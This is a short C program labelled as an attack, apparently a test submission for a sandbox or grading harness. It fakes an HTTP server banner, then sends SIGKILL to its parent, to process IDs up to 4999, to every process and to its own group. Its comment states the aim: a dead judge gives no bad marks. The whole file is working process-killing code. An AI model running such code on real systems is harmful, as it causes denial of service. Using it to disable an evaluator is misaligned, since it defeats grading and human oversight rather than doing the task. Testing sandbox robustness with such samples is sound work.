/*
 * Attack: kills its parent, its group, and everybody whom it may: a judge that is dead gives no bad
 * marks.
 */
#define _POSIX_C_SOURCE 200809L
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

enum { HIGHEST = 5000 };

static void try_to_kill(const char *whom, pid_t pid) {
    int result = kill(pid, SIGKILL);
    printf("kill %s: %s\n", whom, result == 0 ? "it takes it" : strerror(errno));
    fflush(stdout);
}

int main(void) {
    int killed = 0;
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    try_to_kill("the parent", getppid()); /* process 1 of a namespace takes it, and does not care */
    for (pid_t pid = 2; pid < HIGHEST; pid++) {
        if (pid != getpid() && kill(pid, SIGKILL) == 0) killed++;
    }
    printf("killed one by one: %d\n", killed);
    try_to_kill("all", -1);
    puts("done");
    fflush(stdout);
    try_to_kill("the group", 0);
    for (;;) pause();
}
